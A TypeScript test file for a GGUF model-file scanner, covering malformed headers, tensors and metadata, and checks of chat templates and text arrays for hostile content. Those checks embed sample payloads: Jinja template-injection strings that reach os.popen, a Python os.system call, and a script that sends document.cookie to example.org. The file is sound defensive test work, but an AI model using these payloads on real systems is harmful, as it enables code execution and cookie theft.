import assert from 'node:assert/strict';
import { test } from 'node:test';
import { GgufWriter, makeGguf } from '../../test/support/gguf-files.ts';
import type { GgufChanges } from '../../test/support/gguf-files.ts';
import { memorySource } from '../formats/index.ts';
import { judgeScan } from './decoded.ts';
import { scanSource } from './scan.ts';

const scan = (changes: GgufChanges): ReturnType<typeof scanSource> =>
  scanSource('m.gguf', memorySource(makeGguf(changes)));

test('a sound file is written anew, byte by byte the same', () => {
  const decoded = scan({});
  assert.equal(judgeScan(decoded.findings), 'clean', JSON.stringify(decoded.findings));
  assert.deepEqual(Buffer.concat([...(decoded.forms[0]?.pieces() ?? [])]), makeGguf());
});

/** The cases of the reference implementation's own tests, and what they mean here. */
const BROKEN: Readonly<Record<string, GgufChanges>> = {
  'version 1': { version: 1 },
  'a version of the future': { version: 4 },
  'a version of the other byte order': { version: 0x03000000 },
  'minus one tensor': { tensors: -1 },
  'minus one key': { pairs: -1 },
  'more tensors than there are': { tensors: 3 },
  'more keys than there are': { pairs: 4 },
  'a key twice': { keys: ['general.name', 'general.name'] },
  'an empty key': { keys: ['', 'a'] },
  'an alignment that is no power of two': { alignment: 13 },
  'no alignment': { alignment: 0 },
  'five dimensions': { dimensions: [32, 1, 1, 1, 1] },
  'a negative dimension': { dimensions: [-1] },
  'a size that overflows': { dimensions: [2n ** 40n, 2n ** 40n] },
  'bytes that overflow': { dimensions: [2n ** 52n] },
  'an unknown type': { type: 99 },
  'a removed type': { type: 4 },
  'a part of a block': { type: 2, dimensions: [33] },
  'an offset that leaves a hole': { offset: 160 },
  'an offset that overlaps': { offset: 96 },
  'a tensor twice': { names: ['a.weight', 'a.weight'] },
  'a name of 64 bytes': { names: ['a'.repeat(64), 'b'] },
  'data that is cut off': { data: 255 },
  'data behind the end': { data: 320 },
};

for (const [what, changes] of Object.entries(BROKEN)) {
  test(`inconclusive: ${what}`, () => {
    const decoded = scan(changes);
    assert.equal(judgeScan(decoded.findings), 'inconclusive');
    assert.equal(decoded.findings[0]?.code, 'SCAN_GGUF_BROKEN');
    assert.deepEqual(decoded.forms, []);
  });
}

test('another mark is another format', () => {
  assert.equal(judgeScan(scan({ magic: 'GGUX' }).findings), 'inconclusive');
});

test('its chat template is read by the grammar of templates', () => {
  assert.equal(judgeScan(scan({ template: "{{ ''.__class__ }}" }).findings), 'malicious');
  assert.equal(judgeScan(scan({ template: '{{ odd() }}' }).findings), 'inconclusive');
});

test('a key or an array that holds what is no plain text is told: the safe form holds it', () => {
  const hidden = scan({ keys: ['general.\u202ename', 'a'] });
  assert.ok(hidden.findings.some(({ sentence }) => sentence.startsWith('`general.')));
  assert.equal(judgeScan(hidden.findings), 'inconclusive');
  const text = Buffer.from('tokens');
  // An array of one text, of a byte that no UTF-8 text has.
  const array = Buffer.alloc(4 + 4 + 8 + 8 + 1);
  array.writeUInt32LE(9, 0);
  array.writeUInt32LE(8, 4);
  array.writeBigUInt64LE(1n, 8);
  array.writeBigUInt64LE(1n, 16);
  const file = (byte: number): Buffer => {
    const pair = Buffer.concat([Buffer.alloc(8), text, array]);
    pair.writeBigUInt64LE(BigInt(text.length), 0);
    pair[pair.length - 1] = byte;
    const head = Buffer.alloc(24);
    head.write('GGUF', 'latin1');
    head.writeUInt32LE(3, 4);
    head.writeBigUInt64LE(0n, 8);
    head.writeBigUInt64LE(1n, 16);
    return Buffer.concat([head, pair]);
  };
  assert.deepEqual(scanSource('m.gguf', memorySource(file(65))).findings, []);
  assert.deepEqual(
    scanSource('m.gguf', memorySource(file(0xff))).findings.map(({ code }) => code),
    ['SCAN_METADATA_KEPT'],
  );
});

/** A file of one array of texts. */
function makeArray(key: string, texts: readonly string[]): Buffer {
  const out = new GgufWriter().raw(Buffer.from('GGUF')).u32(3).u64(0).u64(1);
  out.text(key).u32(9).u32(8).u64(texts.length);
  for (const each of texts) out.text(each);
  return out.align(32).finish();
}

test('a template or code in an array of texts is for a person, pieces of words are not', () => {
  const verdict = (key: string, ...texts: readonly string[]): string => {
    const { findings } = scanSource('m.gguf', memorySource(makeArray(key, texts)));
    const codes = findings.map(({ code }) => code);
    if (codes.length > 0) assert.deepEqual(codes, ['SCAN_METADATA_KEPT']);
    return judgeScan(findings);
  };
  for (const text of [
    '{{ messages[0].content }}',
    "{% for m in messages %}{{ m['content'] }}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    '{%- set x = namespace(a=1) -%}',
    `<script>fetch("https://example.org/?" + document.cookie)</script> and more`,
    `${'word '.repeat(20)}__import__('os').system('id')`,
  ]) {
    assert.equal(verdict('tokenizer.ggml.tokens', '<s>', text, '</s>'), 'inconclusive', text);
    assert.equal(verdict('general.tags', text), 'inconclusive', text);
  }
  const pieces = [
    ...['{{', '}}', '{%', '%}', '{{$', '}}</', '{{{', '{{ }}', '{% %}', '<s>', '<|im_start|>'],
    ...['System.out.println("', 'getElementById(', ' '.repeat(128), '='.repeat(96)],
    ...['_'.repeat(48) + ' ' + '_'.repeat(32), '%'.repeat(32) + ' ' + '%'.repeat(32)],
    ...['/'.repeat(80), 'ĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠ'],
    ...['abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/'],
  ];
  assert.equal(verdict('tokenizer.ggml.tokens', ...pieces), 'clean');
  assert.equal(verdict('general.datasets', 'https://example.org/datasets/a-longer-name'), 'clean');
});
